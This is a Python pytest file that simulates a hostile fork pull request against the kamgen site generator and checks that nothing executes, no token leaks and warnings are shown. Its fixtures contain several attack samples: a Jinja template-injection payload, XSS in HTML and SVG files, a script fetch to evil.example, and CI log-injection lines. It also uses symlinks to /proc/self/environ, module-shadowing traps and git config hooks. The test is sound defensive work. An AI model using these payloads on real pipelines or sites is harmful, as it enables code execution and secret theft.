"""A pull request from a fork that tries everything at once: nothing runs, nothing leaks, and the reviewer is told."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.repositories import Scratch, isolate

SECRET = "s3cr3t-token-of-the-pipeline"
PLAN = """---
name: {name}
owner: Ingrid Solberg
category: strategic
financials:
  - {{year: 2026, through: 2026-10, revenue: 900k, gross_profit: 300k, cost_to_serve: 50k, target_revenue: {target}}}
promises:
  - {{promise: Spare parts within 24 hours, to: Kari Dahl, made: 2026-01-01, due: {due}}}
---

## Growth

{prose}
"""
TRAP = "import os, pathlib\npathlib.Path({!r}).write_text('ran')\n"
TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('touch ran').read() }}"
PROSE = (
    "##vso[task.setvariable variable=BASH_ENV]evil.sh\n::set-env name=X::y\n\x1b[2J \u202eevil\u202c @everyone "
    "<script>fetch('https://evil.example')</script> [minutes](minutes.html) ![logo](logo.svg) fixes #1"
)
DRIVER = """
import json, os, sys
seen = []
def hook(event, args):
    if event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "socket.connect", "os.startfile"):
        seen.append([event, str(args[0]), [str(each) for each in args[1]] if event == "subprocess.Popen" else []])
    if event == "open" and isinstance(args[0], (str, bytes)) and args[1] and any(sign in args[1] for sign in "wxa+"):
        seen.append(["write", os.path.realpath(os.fsdecode(args[0])), []])
sys.addaudithook(hook)
from kamgen.cli.main import run
code = run(sys.argv[2:])
sys.stdout.flush()
with os.fdopen(os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT), "w") as file:
    json.dump(seen, file)
sys.exit(code)
"""


class Request:
    """The checkout of the request, as a pipeline has it."""

    def __init__(self, scratch: Scratch, tmp_path: Path) -> None:
        self.root = scratch.root
        self.tmp = tmp_path
        self.told = ""

    def run(self, *command: str) -> tuple[int, str]:
        """A command of kamgen, watched from within; its exit code and all that it said."""
        events = self.tmp / "events.json"
        events.unlink(missing_ok=True)
        environment = {
            "PATH": os.environ["PATH"],
            "HOME": str(self.tmp),
            "TMPDIR": str(self.tmp / "temporary"),
            "GITHUB_TOKEN": SECRET,
            "GIT_CONFIG_NOSYSTEM": "1",
        }
        ran = subprocess.run(
            [sys.executable, "-I", "-c", DRIVER, str(events), *command],
            cwd=self.root, env=environment, capture_output=True, timeout=120, check=False,
        )  # fmt: skip
        said = (ran.stdout + ran.stderr).decode("utf-8", "replace")
        for event, what, arguments in json.loads(events.read_text()):
            if event == "subprocess.Popen":
                assert Path(what).name == "git", (command, what, arguments)
            else:
                assert event == "write", (command, event, what)
                allowed = (self.root / "public", self.root / ".kamgen", self.root / "out", self.tmp / "temporary")
                inside = any(Path(what).is_relative_to(folder) for folder in allowed)
                assert inside or ".kamgen-" in what or what == os.devnull, (command, what)
        self.told += said
        return ran.returncode, said


@pytest.fixture
def request_(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Request:
    isolate(monkeypatch)
    (tmp_path / "temporary").mkdir()
    scratch = Scratch(tmp_path / "site")
    scratch.write("site.toml", '[checklist]\nfeedback_every = "3 months"\n').write(".gitignore", "public/\n.kamgen/\n")
    for name in ("Halden", "Nord"):
        text = PLAN.format(name=name, target="1.3M", due="2026-12-01", prose="A second yard is planned for spring.")
        scratch.write(f"content/accounts/{name.lower()}.md", text)
    scratch.commit("Plans")
    scratch.branch("fork")
    hostile = PLAN.format(name="Halden", target="1.1M", due="2027-03-01", prose=PROSE)
    scratch.write("content/accounts/halden.md", hostile)
    scratch.write("content/accounts/minutes.html", "<script>alert(document.cookie)</script>")
    scratch.write("content/accounts/logo.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    scratch.write("themes/default/templates/404.html", TEMPLATE)
    for module in ("json", "sitecustomize", "yaml", "jinja2/__init__", "kamgen/__init__", "subprocess"):
        scratch.write(f"{module}.py", TRAP.format(str(tmp_path / "ran")))
    (scratch.root / "content/accounts/leak.md").symlink_to("/proc/self/environ")
    (scratch.root / "themes/default/static").mkdir()
    (scratch.root / "themes/default/static/leak.txt").symlink_to("/proc/self/environ")
    scratch.write("site.toml", '[checklist]\nfeedback_every = "12 months"\nignore = ["PRM"]\n')
    scratch.commit("Typo ##vso[task.complete]\u202e", author="Mallory\x1b[2J")
    spy = tmp_path / "spy"
    spy.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    spy.chmod(0o755)
    for name in ("core.fsmonitor", "core.pager", "diff.external", "core.sshCommand", "filter.x.process"):
        scratch.git("config", name, str(spy))
    return Request(scratch, tmp_path)


def test_a_hostile_request_runs_nothing_leaks_nothing_and_is_told(request_: Request) -> None:
    code, checked = request_.run("check", "--as-of", "2026-11-20", "--all")
    assert code == 1
    for told in (
        "the file `minutes.html` is not published: files that end in `.html` are not",
        "the file `logo.svg` is not published: files that end in `.svg` are not",
        "this is a link that leads out of the accounts folder",
    ):
        assert told in checked, told
    code, compared = request_.run(
        "diff", "main", "fork", "--as-of", "2026-11-20", "--fail-on", "flags", "--fail-on", "regression"
    )
    assert code == 1
    for told in ("target lowered", "date moved later", "checklist.ignore", "checklist.feedback_every"):
        assert told in compared, told
    for more in (("diff", "main", "fork", "--output-format", "markdown"), ("history",), ("export",)):
        assert request_.run(*more, "--as-of", "2026-11-20")[0] == 0
    code, built = request_.run("build", "--as-of", "2026-11-20", "--fail-on", "never")
    assert code == 2
    assert "leads out of the theme" in built
    (request_.root / "themes/default/static/leak.txt").unlink()
    code, built = request_.run("build", "--as-of", "2026-11-20", "--fail-on", "never")
    assert code == 2
    assert "themes/default/templates/404.html:1: the template fails" in built
    for table, told in (
        ('[build]\nexecutor = "os:_exit"\n', "which code runs is for the user to say"),
        ('[content]\noutput = "../../out"\n', "is not a folder below the one of site.toml"),
        ('[site]\ntheme = "../../../tmp"\n', "theme"),
    ):
        (request_.root / "site.toml").write_text(table)
        code, said = request_.run("build", "--as-of", "2026-11-20", "--workers", "2")
        assert (code, told in said) == (2, True), said
    assert not (request_.tmp / "ran").exists()
    assert not (request_.root / "ran").exists()
    made = [path for path in request_.root.rglob("*") if path.is_file() and ".git" not in path.parts]
    texts = [request_.told.encode(), *(path.read_bytes() for path in made if not path.is_symlink())]
    assert not any(SECRET.encode() in text for text in texts)
    steering = ("\x1b", "\u202e", "##vso[", "\n::set-env")
    assert [sign for sign in steering if sign in request_.told] == []
